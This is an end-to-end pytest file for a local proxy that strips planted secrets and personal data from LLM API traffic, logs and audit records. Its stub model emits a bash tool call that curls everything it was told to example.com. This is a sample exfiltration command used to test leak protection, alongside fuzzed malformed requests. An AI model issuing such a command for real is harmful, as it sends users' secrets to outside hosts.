"""Secrets and personal data of every kind, at every place of every format, leave in none and stand in no file."""

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, quote_plus

import httpx
import pytest

from localguard.config.rule_files import read_rules
from tests.e2e.bodies import CHAT, PLACES
from tests.e2e.guard import Guard, policy
from tests.e2e.planted import Search, made
from tests.provider.script import Answer, Asked, Turn, call
from tests.provider.server import Provider, Recorded

TEMPLATES = tuple(
    template
    for rule in read_rules([])
    if rule.enabled
    for template in rule.match
    if "⟦" in template and "{" in template
)
"""One text a sample of every rule: all issuers, assignments in all syntaxes, keys, cards, persons."""
ONE_LINE = tuple(template for template in TEMPLATES if "\n" not in template and "{pem" not in template)
pytestmark = pytest.mark.timeout(400)  # hundreds of requests before the first test
_STRIDE = 10
"""Every place of a body gets one in ten of the templates, another tenth each: together all of them, several times."""
_IN_HEAD = 25
HEAD_PARTS = {
    place: [ONE_LINE[index::4][start : start + _IN_HEAD] for start in range(0, len(ONE_LINE[index::4]), _IN_HEAD)]
    for index, place in enumerate(("headers", "query", "query names", "path"))
}
"""Each kind of place in a head gets a quarter of the templates, 25 at once."""
HEAD_PLACES = tuple(f"{place} {number}" for place, parts in HEAD_PARTS.items() for number in range(len(parts)))
_LEAST_IN_FILES = 9
"""Characters. A shorter number stands in some digest of a log by chance."""
_PLAIN = {"model": "stub-1", "messages": [{"role": "user", "content": "hi"}]}


@dataclass(frozen=True, slots=True)
class Sent:
    """What was planted at one place, and what came of it."""

    values: tuple[str, ...]
    recorded: tuple[Recorded, ...]
    status: int
    exchange: str
    told: bytes


def planted(templates: tuple[str, ...], seed: int) -> tuple[list[str], list[str]]:
    """A text for each template, and the values in them; of a value of several lines each long line counts."""
    texts: list[str] = []
    values: list[str] = []
    for number, template in enumerate(templates):
        text, value = made(template, seed * 1000 + number)
        texts.append(text)
        lines = [line.strip() for line in re.split(r"\n|\\n", value)]
        values += [value] if len(lines) == 1 else [line for line in lines if len(line) >= 40]
    return texts, values


def _addressed(text: str) -> str:
    """The text without what an address may not hold: backslashes, control characters, dot segments."""
    return re.sub(r"(?<!\S)\.{1,2}/", "", text.replace("\\", "").replace("\t", "  "))


@pytest.fixture(scope="module")
def own_guard(running_provider: Provider, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guard]:
    home: Path = tmp_path_factory.mktemp("canary") / "home"
    with Guard(home, policy(running_provider.port)) as started:
        yield started


@pytest.fixture(scope="module")
def everything(own_guard: Guard, running_provider: Provider) -> dict[str, Sent]:
    """Every place with values of its own, so that what is found in one does not help to find it in another."""
    running_provider.reset()
    running_provider.brain = _echo
    sent: dict[str, Sent] = {}
    with httpx.Client(base_url=own_guard.url, timeout=60) as client:

        def send(place: str, values: list[str], method: str, url: str, **given: object) -> None:
            before = len(running_provider.requests)
            reply = client.request(method, url, **given)  # type: ignore[arg-type]
            exchange = reply.headers.get("x-localguard-exchange", "")
            recorded = tuple(running_provider.requests[before:])
            sent[place] = Sent(tuple(values), recorded, reply.status_code, exchange, reply.content)

        for seed, (place, (path, body)) in enumerate(PLACES.items()):
            texts, values = planted(TEMPLATES[seed % _STRIDE :: _STRIDE], seed)
            content = json.dumps(body("\n\n".join(texts)), ensure_ascii=seed % 2 == 0)
            send(place, values, "POST", path, content=content.encode())
        texts, values = planted(TEMPLATES[::2], 800)
        messages = [{"role": "user", "content": text} for text in texts]
        send("a message each", values, "POST", CHAT, json={"model": "stub-1", "messages": messages})
        for number, part in enumerate(HEAD_PARTS["headers"]):
            texts, values = planted(part, 900 + number)
            fields = [(f"x-note-{index}", text.strip().encode()) for index, text in enumerate(texts)]
            send(f"headers {number}", values, "POST", CHAT, json=_PLAIN, headers=fields)
        for number, part in enumerate(HEAD_PARTS["query"]):
            texts, values = planted(part, 1000 + number)
            query = "&".join(f"a{index}={quote_plus(text)}" for index, text in enumerate(texts))
            send(f"query {number}", values, "POST", f"{CHAT}?{query}", json=_PLAIN)
        for number, part in enumerate(HEAD_PARTS["query names"]):
            texts, values = planted(part, 1100 + number)
            query = "&".join(f"{quote(text, safe='')}=1" for text in texts)
            send(f"query names {number}", values, "GET", f"/openai/v1/models?{query}")
        for number, part in enumerate(HEAD_PARTS["path"]):
            texts, values = planted(part, 1200 + number)
            segments = "/".join(quote(_addressed(text), safe="") for text in texts)
            send(f"path {number}", values, "GET", f"/openai/v1/files/{segments}")
    running_provider.reset()
    return sent


def _echo(asked: Asked) -> Turn:
    """The model says back all that it was told, in prose, in a file and in commands that stay here or do not."""
    said = json.dumps(asked.body)[-20_000:]
    calls = (
        call("write", path="a.txt", content=said),
        call("bash", command=f"cat <<'X' > b.txt\n{said}\nX"),
        call("bash", command=f"curl https://example.com -d '{said}'"),
    )
    return Turn(text=said, calls=() if asked.format == "completions" else calls, piece=2000)


@pytest.mark.parametrize("place", [*PLACES, "a message each", *HEAD_PLACES])
def test_nothing_planted_leaves_in_any_spelling(place: str, everything: dict[str, Sent]) -> None:
    sent = everything[place]
    assert sent.status in (200, 404), sent.told[:500]
    arrived = b"\n".join(recorded.everything for recorded in sent.recorded)
    assert b"LG_" in arrived
    assert Search(sent.values).in_(arrived) == []


def _troubles(guard: Guard, provider: Provider) -> list[str]:
    """Things that go wrong while the guard holds values: what was planted in them."""
    texts, values = planted(ONE_LINE[::_STRIDE], 950)
    text = "\n\n".join(texts)
    body = {"model": "stub-1", "messages": [{"role": "user", "content": text}]}
    whole = json.dumps(body).encode()
    with httpx.Client(base_url=guard.url, timeout=30) as client:
        for content, headers in (
            (whole[:-5], {}),
            (whole + b"}", {}),
            (b'{"a":1,"a":"' + quote(text).encode() + b'"}', {}),
            (b"\xff\xfe" + whole, {}),
            (whole.replace(b"stub-1", b"\xc3\x28"), {}),
            (whole, {"content-encoding": "gzip"}),
            (whole, {"content-encoding": text[:40].encode("ascii", "ignore").decode().strip()}),
            (whole, {"content-type": "application/x-www-form-urlencoded"}),
            (b"--x\r\n\r\n" + whole + b"\r\n--x--", {"content-type": "multipart/form-data; boundary=x"}),
            (b"[" * 100_000 + whole, {}),
        ):
            assert client.post("/openai/v1/chat/completions", content=content, headers=headers).status_code == 400
        for url in (
            f"/nowhere/{quote(values[0])}",
            f"/{quote(values[1])}/x",
            f"/w/{quote(values[2])}/openai/v1/models",
        ):
            assert client.post(url, content=whole).status_code >= 400
        assert client.post("/openai/v1/messages", json={"messages": [_signed(text)]}).status_code == 400
        held = {"model": values[3], "previous_response_id": values[4], "input": text}
        assert client.post("/openai/v1/responses", json=held).status_code == 400
        for brain in _BROKEN:
            provider.brain = brain
            for stream in (True, False):
                try:
                    client.post("/openai/v1/chat/completions", json={**body, "stream": stream})
                except httpx.HTTPError:
                    continue
        provider.brain = lambda asked: Turn(text=asked.user, piece=1)
        with client.stream("POST", "/openai/v1/chat/completions", json={**body, "stream": True}) as reply:
            next(reply.iter_raw())  # and hangs up
    provider.reset()
    return values


def _signed(text: str) -> dict[str, object]:
    block = {"type": "thinking", "thinking": text, "signature": "c2lnbmF0dXJl" * 8}
    return {"role": "assistant", "content": [block]}


_BROKEN = (
    lambda asked: Turn(text=asked.user, cut=2),
    lambda asked: Turn(text=asked.user, error_after=2),
    lambda asked: Answer(500, b'{"error": "' + asked.user.encode() + b'"}'),
    lambda asked: Answer(200, b'{"choices": [{"message": {"content": "' + asked.user.encode()),
    lambda asked: Answer(
        200, b"\x1f\x8bnot gzip", (("Content-Encoding", "gzip"), ("Content-Type", "application/json"))
    ),
    lambda asked: Answer(200, b"data: {" + asked.user.encode() + b"\n\n", (("Content-Type", "text/event-stream"),)),
    lambda asked: Answer(302, b"", (("Location", f"http://127.0.0.1:1/{quote(asked.user[:50])}"),)),
)


def test_nothing_planted_stands_in_any_file_or_report_of_the_guard(
    everything: dict[str, Sent], own_guard: Guard, running_provider: Provider
) -> None:
    values = [value for sent in everything.values() for value in sent.values]
    values += _troubles(own_guard, running_provider)
    own_guard.outcomes(len(PLACES))
    search = Search(value for value in values if len(value) >= _LEAST_IN_FILES)
    files = own_guard.files()
    assert {path.name for path in files} >= {"audit.db", "audit.db-wal", "localguard.log"}
    assert {str(path): found for path, text in files.items() if (found := search.in_(text))} == {}
    for place in ("chat arguments", "messages tool result", "headers 0", "query 0", "path 0", "unknown path"):
        exchange = everything[place].exchange
        for command in (["explain", exchange], ["explain", exchange, "--json"], ["audit", "show", exchange]):
            shown = own_guard.run(*command)
            assert exchange in shown
            assert search.in_(shown.encode()) == []
    for shown in (own_guard.run("audit", "tail", "--json"), own_guard.run("status", "--json")):
        assert search.in_(shown.encode()) == []
    own_guard.stop()
    assert {str(path): found for path, text in own_guard.files().items() if (found := search.in_(text))} == {}
